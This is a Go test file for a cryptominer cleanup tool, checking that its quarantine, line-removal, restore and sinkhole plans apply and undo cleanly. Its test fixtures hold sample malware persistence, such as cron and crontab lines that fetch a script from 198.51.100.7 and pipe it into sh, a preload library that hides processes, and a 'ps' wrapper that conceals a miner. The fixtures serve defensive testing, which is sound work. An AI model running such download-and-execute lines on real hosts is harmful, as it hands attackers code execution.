package respond

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/findings"
	"github.com/minerguard/minerguard/internal/host"
	"github.com/minerguard/minerguard/internal/testkit/fstree"
)

func finding(rule string, sev findings.Severity, ev findings.Evidence) findings.Finding {
	return findings.Finding{Rule: rule, Severity: sev, Signal: findings.SignalPersistence, Evidence: ev, Title: rule}
}

// TestBuildStrategies: each kind of artefact gets the response meant for
// it, and applying then undoing the plan returns the tree.
func TestBuildStrategies(t *testing.T) {
	tests := []struct {
		name    string
		tree    map[string]string
		finds   []findings.Finding
		opts    Options
		actions []string          // "kind path"
		after   map[string]string // content after apply; "" = gone
	}{
		{
			name: "sysv script and its rc links",
			tree: map[string]string{
				"etc/init.d/netupd":   "#!/bin/sh\n/opt/.n/netupd &\n",
				"etc/init.d/ssh":      "#!/bin/sh\n/usr/sbin/sshd\n",
				"etc/rc2.d/S01netupd": "->../init.d/netupd",
				"etc/rc3.d/S01netupd": "->/etc/init.d/netupd",
				"etc/rc2.d/S01ssh":    "->../init.d/ssh",
			},
			finds:   []findings.Finding{finding("persistence.services.temp_exec", findings.High, findings.Evidence{Path: "/etc/init.d/netupd", Line: 2})},
			actions: []string{"quarantine /etc/init.d/netupd", "quarantine /etc/rc2.d/S01netupd", "quarantine /etc/rc3.d/S01netupd"},
			after:   map[string]string{"etc/init.d/netupd": "", "etc/rc2.d/S01netupd": "", "etc/init.d/ssh": "#!/bin/sh\n/usr/sbin/sshd\n"},
		},
		{
			name: "timer takes its service and links along",
			tree: map[string]string{
				"etc/systemd/system/upd.timer":                     "[Timer]\nOnCalendar=minutely\n[Install]\nWantedBy=timers.target\n",
				"etc/systemd/system/upd.service":                   "[Service]\nExecStart=/tmp/.u/upd\n",
				"etc/systemd/system/timers.target.wants/upd.timer": "->/etc/systemd/system/upd.timer",
			},
			finds:   []findings.Finding{finding("persistence.cron.temp_exec", findings.High, findings.Evidence{Path: "/etc/systemd/system/upd.timer"})},
			actions: []string{"quarantine /etc/systemd/system/upd.timer", "quarantine /etc/systemd/system/upd.service", "quarantine /etc/systemd/system/timers.target.wants/upd.timer"},
			after:   map[string]string{"etc/systemd/system/upd.service": "", "etc/systemd/system/timers.target.wants/upd.timer": ""},
		},
		{
			name: "ld.so.preload keeps other entries, library quarantined",
			tree: map[string]string{
				"etc/ld.so.preload":        "/usr/lib/libkeep.so\n/usr/local/lib/libhide.so\n",
				"usr/local/lib/libhide.so": "\x7fELF hide",
			},
			finds:   []findings.Finding{finding("process.preload.file", findings.High, findings.Evidence{Path: "/etc/ld.so.preload", Paths: []string{"/usr/local/lib/libhide.so"}})},
			actions: []string{"remove_lines /etc/ld.so.preload", "quarantine /usr/local/lib/libhide.so"},
			after:   map[string]string{"etc/ld.so.preload": "/usr/lib/libkeep.so\n", "usr/local/lib/libhide.so": ""},
		},
		{
			name: "cron script quarantined whole, crontab line removed",
			tree: map[string]string{
				"etc/cron.hourly/0sync": "#!/bin/sh\ncurl -s http://198.51.100.7/x|sh\n",
				"etc/crontab":           "SHELL=/bin/sh\n* * * * * root wget -q -O- http://198.51.100.7/x|sh\n",
			},
			finds: []findings.Finding{
				finding("persistence.cron.download_exec", findings.High, findings.Evidence{Path: "/etc/cron.hourly/0sync", Line: 2}),
				finding("persistence.cron.download_exec", findings.High, findings.Evidence{Path: "/etc/crontab", Line: 2}),
			},
			actions: []string{"remove_lines /etc/crontab", "quarantine /etc/cron.hourly/0sync"},
			after:   map[string]string{"etc/cron.hourly/0sync": "", "etc/crontab": "SHELL=/bin/sh\n"},
		},
		{
			name: "replaced tool: advice, and the .orig put back when asked",
			tree: map[string]string{
				"usr/bin/ps":      "#!/bin/sh\n/usr/bin/ps.orig \"$@\" | grep -v kdevtmpfsi\n",
				"usr/bin/ps.orig": "\x7fELF real ps",
			},
			finds: []findings.Finding{{Rule: "integrity.tool_wrapper", Severity: findings.High, Signal: findings.SignalIntegrity,
				Evidence: findings.Evidence{Path: "/usr/bin/ps", Details: map[string]string{"package": "procps"}}}},
			opts:    Options{RestoreOrig: true},
			actions: []string{"restore_orig /usr/bin/ps", "advise /usr/bin/ps"},
			after:   map[string]string{"usr/bin/ps": "\x7fELF real ps", "usr/bin/ps.orig": "\x7fELF real ps"},
		},
		{
			name: "pool domains sinkholed in a hosts file that had none",
			tree: map[string]string{"etc/hostname": "h\n"},
			finds: []findings.Finding{{Rule: "network.pool_domain", Severity: findings.High, Signal: findings.SignalNetwork,
				Evidence: findings.Evidence{Domain: "Pool.SupportXMR.com.", Remote: "127.0.0.1:3333"}}},
			actions: []string{"block_domains /etc/hosts"},
			after:   map[string]string{"etc/hosts": "# minerguard: mining pool sinkhole (RUN)\n0.0.0.0 pool.supportxmr.com\n:: pool.supportxmr.com\n"},
		},
		{
			name:  "below the threshold: nothing",
			tree:  map[string]string{"etc/crontab": "* * * * * root /tmp/x\n"},
			finds: []findings.Finding{finding("persistence.cron.temp_exec", findings.Low, findings.Evidence{Path: "/etc/crontab", Line: 1})},
			opts:  Options{MinSeverity: findings.Medium},
		},
		{
			name:    "wallets are the user's: advice only",
			tree:    map[string]string{"home/a/.bitmonero/wallet.keys": "secret"},
			finds:   []findings.Finding{{Rule: "files.wallet", Severity: findings.Medium, Signal: findings.SignalIdentity, Evidence: findings.Evidence{Path: "/home/a/.bitmonero/wallet.keys"}}},
			actions: []string{"advise /home/a/.bitmonero/wallet.keys"},
			after:   map[string]string{"home/a/.bitmonero/wallet.keys": "secret"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			fstree.Write(t, root, tc.tree, 0)
			h, err := host.Offline(root)
			if err != nil {
				t.Fatal(err)
			}
			rep := &findings.Report{Findings: tc.finds}
			plan, err := Build(context.Background(), h, rep, nil, tc.opts)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, a := range plan.Actions {
				got = append(got, string(a.Kind)+" "+a.Path)
			}
			if !slices.Equal(got, tc.actions) {
				t.Fatalf("actions\n got %q\nwant %q\nskipped %v", got, tc.actions, plan.Skipped)
			}
			if len(plan.Actions) == 0 {
				return
			}
			state := t.TempDir()
			dir, err := NewRunDir(state)
			if err != nil {
				t.Fatal(err)
			}
			j, err := CreateJournal(dir, plan)
			if err != nil {
				t.Fatal(err)
			}
			a := &Applier{Host: h, Journal: j}
			rs, err := a.Apply(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range rs {
				if r.Status == "failed" {
					t.Fatalf("action failed: %+v", r)
				}
			}
			for p, want := range tc.after {
				want = strings.ReplaceAll(want, "RUN", filepath.Base(dir))
				b, err := os.ReadFile(filepath.Join(root, p))
				if want == "" {
					if _, lerr := os.Lstat(filepath.Join(root, p)); lerr == nil {
						t.Errorf("%s still there", p)
					}
					continue
				}
				if err != nil || string(b) != want {
					t.Errorf("%s = %q (%v), want %q", p, b, err, want)
				}
			}
			if _, err := a.Undo(context.Background()); err != nil {
				t.Fatal(err)
			}
			for p, want := range tc.tree {
				full := filepath.Join(root, p)
				if target, ok := strings.CutPrefix(want, "->"); ok {
					if l, err := os.Readlink(full); err != nil || l != target {
						t.Errorf("after undo, link %s -> %q (%v), want %q", p, l, err, target)
					}
					continue
				}
				if b, err := os.ReadFile(full); err != nil || string(b) != want {
					t.Errorf("after undo %s = %q (%v)", p, b, err)
				}
			}
			if _, err := os.Stat(filepath.Join(root, "etc/hosts")); err == nil && tc.tree["etc/hosts"] == "" {
				t.Error("undo left a hosts file that was not there")
			}
		})
	}
}

// TestJournalTornTail: a record cut by a power loss is dropped, a damaged
// record in the middle is an error naming the line.
func TestJournalTornTail(t *testing.T) {
	dir := t.TempDir()
	j, err := CreateJournal(dir, &Plan{Actions: []Action{{Kind: KindAdvise}}})
	if err != nil {
		t.Fatal(err)
	}
	j.Append(Record{Type: recDone, Action: 0})
	j.Close()
	name := filepath.Join(dir, journalName)
	f, _ := os.OpenFile(name, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString(`{"seq":3,"type":"beg`)
	f.Close()
	j, err = OpenJournal(dir)
	if err != nil {
		t.Fatalf("torn tail: %v", err)
	}
	if len(j.Recs) != 2 || !j.status().done[0] {
		t.Fatalf("records %+v", j.Recs)
	}
	if err := j.Append(Record{Type: recApplied, Action: -1}); err != nil {
		t.Fatal(err)
	}
	j.Close()
	if j, err = OpenJournal(dir); err != nil || len(j.Recs) != 3 {
		t.Fatalf("after append past a torn tail: %v %d", err, len(j.Recs))
	}
	j.Close()
	b, _ := os.ReadFile(name)
	os.WriteFile(name, []byte(strings.Replace(string(b), `"type":"done"`, `"type":"done"garbage`, 1)), 0o600)
	if _, err := OpenJournal(dir); err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Fatalf("damaged middle record: %v", err)
	}
}

// FuzzOpenJournal: any bytes in a journal give an error or records, never
// a panic.
func FuzzOpenJournal(f *testing.F) {
	f.Add([]byte(`{"seq":1,"type":"header","action":-1,"plan":{"actions":[]}}` + "\n"))
	f.Add([]byte(`{"seq":1,"type":"header","plan":{"actions":[{"kind":"quarantine","path":"/x"}]}}` + "\n" + `{"type":"begin","action":7}` + "\n"))
	f.Add([]byte("\n\n{"))
	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, journalName), data, 0o600); err != nil {
			t.Fatal(err)
		}
		j, err := OpenJournal(dir)
		if err != nil {
			return
		}
		defer j.Close()
		j.status()
	})
}
